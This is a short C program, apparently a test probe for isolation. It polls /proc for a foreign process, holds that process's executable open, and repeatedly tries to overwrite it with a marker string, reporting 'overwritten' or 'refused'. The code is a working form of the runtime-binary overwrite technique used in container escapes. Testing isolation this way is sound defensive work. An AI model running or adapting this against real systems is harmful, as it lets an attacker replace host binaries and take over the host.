/* Wait for a process whose program is neither this one nor busybox; overwrite that program. */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static bool is(const struct stat *info, const char *path)
{
	struct stat other;

	return stat(path, &other) == 0 && other.st_dev == info->st_dev &&
	       other.st_ino == info->st_ino;
}

/* The program of the process, opened for reading, as that does not fail while it runs. */
static int foreign_program(const char *pid)
{
	char path[300];
	struct stat info;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY);

	if (fd >= 0 && fstat(fd, &info) == 0 && !is(&info, "/proc/self/exe") &&
	    !is(&info, "/bin/busybox"))
		return fd;
	if (fd >= 0)
		close(fd);
	return -1;
}

static int find(void)
{
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while ((entry = readdir(proc))) {
			int fd = isdigit(*entry->d_name) ? foreign_program(entry->d_name) : -1;

			if (fd >= 0)
				return fd;
		}
		closedir(proc);
	}
}

int main(void)
{
	char path[64];

	puts("waiting");
	fflush(stdout);
	int program = find();

	puts("reached");
	fflush(stdout);
	snprintf(path, sizeof path, "/proc/self/fd/%d", program);
	for (;;) {
		int fd = open(path, O_WRONLY);

		if (fd >= 0) {
			puts(write(fd, "overwritten", 11) == 11 ? "overwritten" : "refused");
			fflush(stdout);
			pause();
		}
		usleep(100);
	}
}
